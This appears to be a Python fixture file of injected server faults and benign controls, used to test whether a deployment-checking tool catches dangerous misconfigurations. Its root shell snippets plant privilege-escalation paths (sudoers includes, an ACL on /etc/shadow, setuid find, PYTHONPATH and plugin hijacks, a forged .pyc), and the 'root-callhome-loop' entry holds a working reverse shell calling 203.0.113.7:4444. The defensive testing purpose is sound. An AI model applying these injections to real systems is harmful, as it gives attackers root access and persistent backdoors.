# ruff: noqa
"""A third blind fault set: written from the docs only (README, docs/, the shared notes), before reading any gate code.

Kinds not in the two earlier blind sets (blind16, blind17) nor in the catalogue's ids: other mechanisms (ACLs, dpkg's
own records, system-wide configs of tools root runs, include directives of configs root reads, alternatives, sudo's
own Defaults and plugins, forged bytecode, rollback targets deduplicated or downgraded).

Each entry: id, kind ('fault' or 'control'), area, inject (sh, run as root in the container after a deploy of the
example app twice), check (sh, exit 0 when the injection took effect and has the harm claimed), harm.

Every snippet runs after PRELUDE, which finds the deployed state on the server itself:
  APP app name, R app root, APPU app user, APPG app group, DEPU deploy user (owner of R), LIVE/PREV release ids,
  REL live release dir, PREVREL previous release dir, SITE/PREVSITE their site-packages, PYV python X.Y,
  PKG the app's top package (from the entry point), CFG the config path, SH0 the first shared dir (path);
  APT pkg...: installs Debian packages (the container's apt sources); ACL_ADD file uid perm: a POSIX ACL entry.
"""

PRELUDE = r"""
set -e
SUD=$(ls /etc/sudoers.d/deploytests-* | head -n 1); APP=${SUD##*/deploytests-}
VH=/etc/apache2/sites-available/$APP.conf
R=$(sed -n 's|^ *WSGIScriptAlias / \(.*\)/application.wsgi.*|\1|p' $VH | head -n 1)
APPU=$(sed -n 's/.*WSGIDaemonProcess [^ ]* .*user=\([^ ]*\).*/\1/p' $VH | head -n 1)
APPG=$(stat -c %G $R)
DEPU=$(stat -c %U $R)
LIVE=$(readlink $R/current | sed 's|releases/||')
PREV=$(ls $R/releases | grep -v "^$LIVE$" | sort | tail -n 1)
REL=$R/releases/$LIVE
PREVREL=$R/releases/$PREV
SITE=$(ls -d $REL/venv/lib/python3*/site-packages)
PREVSITE=$(ls -d $PREVREL/venv/lib/python3*/site-packages)
PYV=$(basename $(dirname $SITE) | sed 's/python//')
PKG=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["entry_point"].split(":")[0].split(".")[0])' $REL/RELEASE.json)
CFG=$(find $R/shared -maxdepth 1 -type f | head -n 1)
SH0=$(find $R/shared -mindepth 1 -maxdepth 1 -type d | sort | head -n 1)
APT() { apt-get update -q >/dev/null 2>&1 || true; DEBIAN_FRONTEND=noninteractive apt-get install -y -q --no-install-recommends "$@" >/dev/null 2>&1; }
ACL_ADD() { python3 - "$1" "$2" "$3" <<'ACLEOF'
import os, struct, sys
path, uid, perm = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
m = os.stat(path).st_mode
u, g, o = (m >> 6) & 7, (m >> 3) & 7, m & 7
ent = lambda tag, p, i: struct.pack("<HHI", tag, p, i & 0xFFFFFFFF)
os.setxattr(path, "system.posix_acl_access", struct.pack("<I", 2) + ent(1, u, -1) + ent(2, perm, uid) + ent(4, g, -1)
            + ent(0x10, g | perm, -1) + ent(0x20, o, -1))
ACLEOF
}
"""

F = []


def fault(id, area, inject, check, harm, kind="fault"):
    F.append(dict(id=id, kind=kind, area=area, inject=inject.strip(), check=check.strip(), harm=harm))


def control(id, area, inject, check, harm):
    fault(id, area, inject, check, harm, kind="control")


# ---------------------------------------------------------------- what serves
fault("relay-exposes-loopback-status", "serves", r"""
cat > /usr/local/sbin/lb-relay <<'RELAY'
#!/usr/bin/python3
# health-check port for the load balancer: relays to Apache on loopback
import socket, threading
def pipe(a, b):
    try:
        while True:
            d = a.recv(65536)
            if not d:
                break
            b.sendall(d)
    except OSError:
        pass
    finally:
        a.close(); b.close()
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("0.0.0.0", 8081)); s.listen(16)
while True:
    c, _ = s.accept(); u = socket.create_connection(("127.0.0.1", 80))
    threading.Thread(target=pipe, args=(c, u), daemon=True).start(); threading.Thread(target=pipe, args=(u, c), daemon=True).start()
RELAY
chmod 755 /usr/local/sbin/lb-relay
setsid nohup /usr/local/sbin/lb-relay >/dev/null 2>&1 < /dev/null &
sleep 1.5
""", r"""IP=$(hostname -I | cut -d' ' -f1); curl -s -o /dev/null -w '%{http_code}' http://$IP:8081/server-status | grep -q 200""",
      "a root TCP relay for a load balancer's health check: every request through it comes from 127.0.0.1, so Debian's 'Require local' /server-status answers the world")

fault("apache-extra-listen-in-ports-conf", "serves", r"""
echo 'Listen 8080' >> /etc/apache2/ports.conf
apache2ctl graceful; sleep 1.5
""", r"""curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:8080/ | grep -q 200""",
      "'Listen 8080' added for a future site: Apache answers 8080 with its main server (Debian's /var/www/html) on every address")

fault("rsyncd-loopback-root-rw", "serves", r"""
APT rsync
printf 'uid = root\ngid = root\n[root]\n  path = /\n  read only = false\n' > /etc/rsyncd.conf
rsync --daemon --address=127.0.0.1 --config=/etc/rsyncd.conf
sleep 1
""", r"""rsync -q rsync://127.0.0.1/root/etc/hostname /tmp/.b18h && test -s /tmp/.b18h""",
      "an rsync daemon on loopback 'for local backups', module / as root, writable: every local process (the app's code) writes any file as root")

# ---------------------------------------------------------------- what runs
fault("root-callhome-loop", "runs", r"""
cat > /usr/local/sbin/ops-callhome <<'CH'
#!/usr/bin/python3
import socket, subprocess, time
while True:
    try:
        s = socket.create_connection(("203.0.113.7", 4444), timeout=5)
        subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
    except OSError:
        time.sleep(30)
CH
chmod 700 /usr/local/sbin/ops-callhome
setsid nohup /usr/local/sbin/ops-callhome >/dev/null 2>&1 < /dev/null &
sleep 1
""", r"""pgrep -u root -f ops-callhome >/dev/null""",
      "a root 'support' loop that hands a root shell to whoever answers on 203.0.113.7:4444 (a reverse shell): it opens no port here")

fault("bash-logout-sources-shared", "runs", r"""
printf '# clear the screen and run the team hook on logout\n[ -r %s/.logout ] && . %s/.logout\n' "$SH0" "$SH0" > /etc/bash.bash_logout
runuser -u $APPU -- sh -c "echo ': > /tmp/.b18lo' > $SH0/.logout"
""", r"""rm -f /tmp/.b18lo; bash -lc exit >/dev/null 2>&1; test -e /tmp/.b18lo && test "$(stat -c %U /tmp/.b18lo)" = root""",
      "/etc/bash.bash_logout (every login shell's exit, root's too) sources a file the app writes: the app's code as root")

fault("ssh-client-proxycommand-shared", "runs", r"""
mkdir -p /etc/ssh/ssh_config.d
printf 'Host backup-*\n  ProxyCommand %s/bin/proxy %%h %%p\n' "$SH0" > /etc/ssh/ssh_config.d/20-backup.conf
""", r"""ssh -G backup-1 2>/dev/null | grep -qi "^proxycommand $SH0/bin/proxy" """,
      "the system ssh client config runs a program in the app's shared dir for every 'ssh backup-*' (root's backup push): the app's code as root")

fault("system-gitconfig-hooks-shared", "runs", r"""
APT git
git config --system core.hooksPath "$SH0/hooks"
""", r"""test "$(git config --system core.hooksPath)" = "$SH0/hooks" """,
      "/etc/gitconfig points every repository's hooks (etckeeper's root commits at every apt run, an admin's git in /etc) to a dir the app writes")

fault("incron-runs-uploads", "runs", r"""
APT incron
printf '%s IN_CLOSE_WRITE /bin/sh $@/$#\n' "$SH0" > /etc/incron.d/uploads
incrond
sleep 1
""", r"""rm -f /tmp/.b18inc; runuser -u $APPU -- sh -c "echo 'id -u > /tmp/.b18inc' > $SH0/job.sh"; sleep 2; rm -f $SH0/job.sh; test "$(cat /tmp/.b18inc)" = 0""",
      "an incron table runs, as root, every file written into the app's shared dir ('process uploads'): whatever the app writes runs as root")

fault("logrotate-includes-shared", "runs", r"""
APT logrotate
runuser -u $APPU -- mkdir -p $SH0/logrotate.d
echo "include $SH0/logrotate.d" >> /etc/logrotate.conf
""", r"""logrotate -d /etc/logrotate.conf 2>&1 | grep -q "$SH0/logrotate.d" """,
      "logrotate's main config includes a dir the app writes: a rule it adds there runs its postrotate script as root daily")

fault("apt-conf-include-shared", "runs", r"""
runuser -u $APPU -- sh -c "echo 'Ops::Marker \"1\";' > $SH0/apt.conf"
printf '#include "%s/apt.conf";\n' "$SH0" > /etc/apt/apt.conf.d/99local
""", r"""apt-config dump 2>/dev/null | grep -q 'Ops::Marker' """,
      "an apt config includes a file the app writes: a DPkg::Post-Invoke it adds runs as root at every apt run")

fault("cron-cleanup-deletes-daemon-sockets", "mechanisms", r"""
APT cron
printf '# clean stale sockets\n17 3 * * * root find /run /var/run -xdev -type s -mmin +1440 -delete\n' > /etc/cron.d/stale-sockets
""", r"""command -v cron >/dev/null && find /run /var/run -xdev -type s -name 'wsgi*' | grep -q .""",
      "a root 'stale socket' cleanup deletes mod_wsgi's daemon sockets once Apache has run a day: every request answers 503 until a restart")

fault("sudo-noexec-on-release-python", "mechanisms", r"""
printf 'Cmnd_Alias APPPY = %s/releases/*/venv/bin/python\nDefaults!APPPY noexec\n' "$R" > /etc/sudoers.d/harden-app
chmod 440 /etc/sudoers.d/harden-app
""", r"""visudo -c >/dev/null && ! runuser -u $DEPU -- sudo -n -u $APPU $REL/venv/bin/python -c 'import subprocess,sys; sys.exit(subprocess.call(["true"]))' 2>/dev/null""",
      "a 'hardening' noexec on the release python: every deploy step run as the app user (migrations, post_deploy) that starts a program fails")

fault("sysctl-kernel-modprobe-shared", "runs", r"""
echo "kernel.modprobe = $SH0/modprobe" > /etc/sysctl.d/60-modprobe.conf
""", r"""grep -q "$SH0/modprobe" /etc/sysctl.d/60-modprobe.conf""",
      "from the next boot the kernel runs, as root, a program the app writes whenever any process asks for a missing module (an unknown socket family)")

# ---------------------------------------------------------------- what grants
fault("shadow-acl-for-app-user", "grants", r"""
ACL_ADD /etc/shadow $(id -u $APPU) 4
""", r"""test "$(stat -c %a /etc/shadow)" = 640 && runuser -u $APPU -- head -c 1 /etc/shadow >/dev/null""",
      "an ACL on /etc/shadow gives the app user read (its mode still 0640 root:shadow): the app's code reads every password hash")

fault("hostkey-acl-for-www-data", "grants", r"""
ACL_ADD /etc/ssh/ssh_host_ed25519_key 33 4
""", r"""runuser -u www-data -- head -c 1 /etc/ssh/ssh_host_ed25519_key >/dev/null""",
      "an ACL gives Apache's user read on the SSH host key: a hole in any site impersonates the server to every deploy")

fault("statoverride-setuid-find", "grants", r"""
dpkg-statoverride --update --add root root 4755 /usr/bin/find
""", r"""test -u /usr/bin/find && test "$(stat -c %U /usr/bin/find)" = root""",
      "a setuid-root find recorded with dpkg-statoverride (so upgrades keep it): find -exec gives any local user root")

fault("sudo-group-no-authenticate", "grants", r"""
useradd -m -s /bin/bash -G sudo ops5; echo 'ops5:Autumn-2026-z' | chpasswd
echo 'Defaults:%sudo !authenticate' > /etc/sudoers.d/ops-noauth; chmod 440 /etc/sudoers.d/ops-noauth
""", r"""visudo -c >/dev/null && runuser -u ops5 -- sudo -n true""",
      "sudo asks the sudo group no password: whatever runs as an admin login (its shell files, a browser exploit on a jump host) is root")

fault("sudo-logfile-in-shared", "grants", r"""
echo "Defaults logfile=$SH0/sudo.log" > /etc/sudoers.d/ops-log; chmod 440 /etc/sudoers.d/ops-log
""", r"""visudo -c >/dev/null && sudo -n -u nobody true && test -f $SH0/sudo.log""",
      "sudo (root) appends its log to a path in a dir the app writes: the app links it anywhere and root writes there")

fault("sudo-env-file-in-shared", "grants", r"""
runuser -u $APPU -- sh -c "printf 'OPS_MARK=1\nPYTHONPATH=$SH0\n' > $SH0/sudo.env"
echo "Defaults env_file=$SH0/sudo.env" > /etc/sudoers.d/ops-env; chmod 440 /etc/sudoers.d/ops-env
""", r"""visudo -c >/dev/null && sudo -n env | grep -q OPS_MARK=1""",
      "sudo reads the environment of every command it runs (root's too) from a file the app writes: it sets PYTHONPATH, LD_* for root")

fault("sudoers-hash-include-shared", "grants", r"""
touch $SH0/sudoers.extra; chown root:root $SH0/sudoers.extra; chmod 440 $SH0/sudoers.extra
echo "#include $SH0/sudoers.extra" > /etc/sudoers.d/zz-extra; chmod 440 /etc/sudoers.d/zz-extra
""", r"""visudo -c >/dev/null && grep -q "^#include $SH0" /etc/sudoers.d/zz-extra""",
      "sudoers includes (old #include spelling) a file in a dir the app writes: the app replaces it (sudo then refuses everyone: no root access, no deploy's sudo) or, root-owned by any other way, grants itself")

fault("sshd-loglevel-quiet", "mechanisms", r"""
mkdir -p /etc/ssh/sshd_config.d; printf 'LogLevel QUIET\n' > /etc/ssh/sshd_config.d/10-quiet.conf
""", r"""/usr/sbin/sshd -T 2>/dev/null | grep -qi '^loglevel quiet'""",
      "'less log noise': sshd logs nothing from its next start: no login, no failed attempt, no key used is recorded")

# ---------------------------------------------------------------- what loads code
fault("pam-env-locale-pythonpath", "loads", r"""
echo "PYTHONPATH=$SH0" >> /etc/default/locale
""", r"""su - root -c 'echo $PYTHONPATH' 2>/dev/null | grep -q "$SH0" """,
      "pam_env's envfile /etc/default/locale (every SSH and su session, root's too) sets PYTHONPATH to a dir the app writes")

fault("init-rcs-exports-pythonpath", "loads", r"""
echo "export PYTHONPATH=$SH0" >> /etc/default/rcS
""", r"""grep -q '/etc/default/rcS' /etc/init.d/apache2 && sh -c '. /etc/default/rcS; echo $PYTHONPATH' | grep -q "$SH0" """,
      "/etc/default/rcS (sourced by Apache's init script: service apache2 restart) exports PYTHONPATH to a dir the app writes: the daemons import from it first")

fault("sudo-conf-plugin-from-shared", "loads", r"""
P=$(find /usr/libexec/sudo /usr/lib/sudo -name sudoers.so 2>/dev/null | head -n 1); test -n "$P"
cp $P $SH0/sudoers.so; chown root:root $SH0/sudoers.so; chmod 644 $SH0/sudoers.so
printf 'Plugin sudoers_policy %s/sudoers.so\n' "$SH0" >> /etc/sudo.conf
""", r"""sudo -n -u nobody true && grep -q "^Plugin sudoers_policy $SH0" /etc/sudo.conf""",
      "sudo loads its policy plugin from a dir the app writes: the app swaps the file and its code runs as root in every sudo")

fault("root-usercustomize-appends-shared", "loads", r"""
D=$(python3 -c 'import site; print(site.getusersitepackages())'); mkdir -p $D
printf 'import sys\nsys.path.append("%s/lib")\n' "$SH0" > $D/usercustomize.py
runuser -u $APPU -- mkdir -p $SH0/lib
""", r"""python3 -c 'import sys; print(sys.path)' | grep -q "$SH0/lib" """,
      "root's usercustomize puts a dir the app writes on every root python3's path: a module it places there is root's code")

fault("root-user-site-pth-path-line", "loads", r"""
D=$(python3 -c 'import site; print(site.getusersitepackages())'); mkdir -p $D
runuser -u $APPU -- mkdir -p $SH0/vendor
echo "$SH0/vendor" > $D/ops-vendor.pth
""", r"""python3 -c 'import sys; print(sys.path)' | grep -q "$SH0/vendor" """,
      "a .pth in root's user site (a path line, no import) puts a dir the app writes on root's python3 path")

fault("live-pyc-unchecked-hash", "loads", r"""
M=$SITE/$PKG/__init__.py
python3 - "$M" <<'PYC'
import importlib.util as u, os, sys
from importlib._bootstrap_external import _code_to_hash_pyc
src = sys.argv[1]; data = open(src, "rb").read()
code = compile(data.decode() + "\nFORGED = 'not the artifact'\n", src, "exec")
dst = u.cache_from_source(src)
os.makedirs(os.path.dirname(dst), exist_ok=True)
open(dst, "wb").write(_code_to_hash_pyc(code, u.source_hash(data), checked=False))
PYC
chown -R --reference=$M $SITE/$PKG/__pycache__
apache2ctl graceful; sleep 2
""", r"""python3 - $SITE/$PKG/__init__.py <<'CHK'
import importlib.util as u, marshal, struct, sys
data = open(u.cache_from_source(sys.argv[1]), "rb").read()
sys.exit(0 if struct.unpack("<I", data[4:8])[0] == 1 and "FORGED" in marshal.loads(data[16:]).co_names else 1)
CHK
""",
      "an unchecked-hash .pyc for the app's package in the live release: the daemons run code that is not the source (byte-identical to the artifact) nor the artifact")

fault("openssl-include-shared", "loads", r"""
runuser -u $APPU -- sh -c "printf '[openssl_init]\nproviders = ops_providers\n[ops_providers]\ndefault = ops_default\nops = ops_mod\n[ops_default]\nactivate = 1\n[ops_mod]\nmodule = $SH0/ossl-ops.so\nactivate = 1\n' > $SH0/openssl-ops.cnf"
printf '\n.include %s/openssl-ops.cnf\n' "$SH0" >> /etc/ssl/openssl.cnf
""", r"""openssl list -providers 2>&1 | grep -q 'ossl-ops' """,
      "OpenSSL's system config includes a file the app writes: it names a provider .so every root process using OpenSSL (apt, curl, python's ssl) loads")

fault("alternatives-awk-to-shared", "loads", r"""
cp /usr/bin/mawk $SH0/awk; chown $APPU:$APPG $SH0/awk; chmod 755 $SH0/awk
update-alternatives --quiet --install /usr/bin/awk awk $SH0/awk 100
""", r"""test "$(readlink -f /usr/bin/awk)" = "$SH0/awk" """,
      "the awk alternative (every root script's awk: cron jobs, maintainer scripts) is a file the app owns")

# ---------------------------------------------------------------- rollback targets
fault("prev-snapshot-removed-static-changed", "rollback", r"""
S=$(find $PREVREL -mindepth 1 -maxdepth 1 -type d ! -name venv ! -name __pycache__ | sort | head -n 1)
FF=$(find $S -type f | sort | head -n 1); test -n "$FF"
printf '\n/* injected */\n' >> $FF
rm -f $PREVREL/SNAPSHOT.json
""", r"""! test -e $PREVREL/SNAPSHOT.json && grep -rq injected $PREVREL --exclude-dir=venv""",
      "the rollback target's record removed (it looks like a release from before that record) and a static file changed: a rollback serves what no deploy shipped")

fault("prev-kept-config-edited", "rollback", r"""
C=$(ls -d $R/.configs/* 2>/dev/null | grep -F "$PREV" | head -n 1); test -n "$C"
printf '\nDEBUG = True\n' >> $C
""", r"""grep -rqx 'DEBUG = True' $R/.configs""",
      "the config kept for the rollback target edited by hand (DEBUG on): a rollback restores a config no deploy shipped (tracebacks to every client)")

fault("prev-venv-python-wrapper", "rollback", r"""
printf '#!/bin/sh\nexport PYTHONPATH=%s\nexec /usr/bin/python3 "$@"\n' "$SH0" > /usr/local/bin/python3-ops; chmod 755 /usr/local/bin/python3-ops
ln -sfn /usr/local/bin/python3-ops $PREVREL/venv/bin/python; chown -h $DEPU:$(stat -c %G $PREVREL) $PREVREL/venv/bin/python
""", r"""test "$(readlink $PREVREL/venv/bin/python)" = /usr/local/bin/python3-ops""",
      "the rollback target's venv python repointed to a wrapper that imports from the app's shared dir first (and loses the venv)")

fault("prev-site-packages-linked-to-live", "rollback", r"""
rm -rf $PREVSITE; ln -s $SITE $PREVSITE; chown -h $DEPU:$(stat -c %G $PREVREL) $PREVSITE
""", r"""test "$(readlink $PREVSITE)" = "$SITE" """,
      "'disk space': the rollback target's site-packages replaced by a link to the live one: a rollback runs the live code under the old release's name")

# ---------------------------------------------------------------- mechanisms / hygiene
fault("logrotate-apache-postrotate-removed", "mechanisms", r"""
APT logrotate
python3 - <<'LR'
import re
p = "/etc/logrotate.d/apache2"; s = open(p).read()
s = re.sub(r"\n\s*postrotate.*?endscript", "", s, flags=re.S)
open(p, "w").write(s)
LR
""", r"""command -v logrotate >/dev/null && ! grep -q postrotate /etc/logrotate.d/apache2 && logrotate -d /etc/logrotate.d/apache2 >/dev/null 2>&1""",
      "Apache's logrotate rule lost its reload: after the first rotation Apache writes into the rotated file, compressed away the next day: logs lost")

fault("apt-global-trusted-key", "grants", r"""
APT gpg gpg-agent
export GNUPGHOME=$(mktemp -d)
gpg --batch --passphrase '' --quick-gen-key 'Vendor Repo <apt@vendor.example>' ed25519 sign never >/dev/null 2>&1
gpg --armor --export apt@vendor.example > /etc/apt/trusted.gpg.d/vendor.asc
echo 'deb http://apt.vendor.example/debian stable main' > /etc/apt/sources.list.d/vendor.list
""", r"""gpg --show-keys /etc/apt/trusted.gpg.d/vendor.asc 2>/dev/null | grep -q vendor.example""",
      "a vendor's key in trusted.gpg.d (no signed-by): apt takes anything that key signs for every source, Debian's packages included, as root")

fault("ssh-client-no-host-key-check", "grants", r"""
mkdir -p /etc/ssh/ssh_config.d
printf 'Host *\n  StrictHostKeyChecking no\n  UserKnownHostsFile /dev/null\n' > /etc/ssh/ssh_config.d/10-nocheck.conf
""", r"""ssh -G somehost 2>/dev/null | grep -qi '^stricthostkeychecking false' """,
      "every ssh client on the server (root's backup push, an admin's hop) accepts any host key: whoever is on the path gets the session and its data")

# ---------------------------------------------------------------- controls (ordinary admin changes: must pass)
control("ctl-node-exporter-on-loopback", "control", r"""
APT prometheus-node-exporter
runuser -u prometheus -- setsid nohup /usr/bin/prometheus-node-exporter --web.listen-address=127.0.0.1:9100 >/dev/null 2>&1 < /dev/null &
sleep 2
""", r"""curl -s http://127.0.0.1:9100/metrics | grep -q node_""", "Debian's node exporter, as its own system user, on loopback only")

control("ctl-logrotate-dateext", "control", r"""
APT logrotate
sed -i 's/^#dateext/dateext/' /etc/logrotate.conf
""", r"""grep -q '^dateext' /etc/logrotate.conf""", "logrotate installed, dated rotations")

control("ctl-root-dotfiles", "control", r"""
printf "alias ll='ls -alF'\nexport EDITOR=vim\nHISTSIZE=10000\n" >> /root/.bashrc
printf 'set nocompatible\nsyntax on\n' > /root/.vimrc; printf 'set bell-style none\n' > /root/.inputrc
""", r"""grep -q "alias ll" /root/.bashrc""", "root's own shell aliases, vimrc and inputrc")

control("ctl-unattended-upgrades", "control", r"""
APT unattended-upgrades
printf 'APT::Periodic::Update-Package-Lists "1";\nAPT::Periodic::Unattended-Upgrade "1";\n' > /etc/apt/apt.conf.d/20auto-upgrades
""", r"""test -f /etc/apt/apt.conf.d/50unattended-upgrades""", "unattended-upgrades installed and switched on")

control("ctl-apt-jq-installed", "control", r"""
APT jq
""", r"""command -v jq >/dev/null""", "a packaged tool installed with apt")

control("ctl-ssh-client-keepalive", "control", r"""
mkdir -p /etc/ssh/ssh_config.d; printf 'Host *\n  ServerAliveInterval 30\n' > /etc/ssh/ssh_config.d/keepalive.conf
""", r"""ssh -G x 2>/dev/null | grep -qi '^serveraliveinterval 30'""", "a keep-alive for every ssh client")

control("ctl-corp-ca-added", "control", r"""
openssl req -x509 -newkey rsa:2048 -nodes -days 365 -subj '/CN=Corp Root CA' -keyout /root/corp-ca.key -out /usr/local/share/ca-certificates/corp.crt >/dev/null 2>&1
chmod 600 /root/corp-ca.key
update-ca-certificates >/dev/null 2>&1
""", r"""grep -rq 'Corp Root CA' /etc/ssl/certs/ 2>/dev/null || ls /etc/ssl/certs | grep -q corp""", "the company's root CA added to the system's trust store")
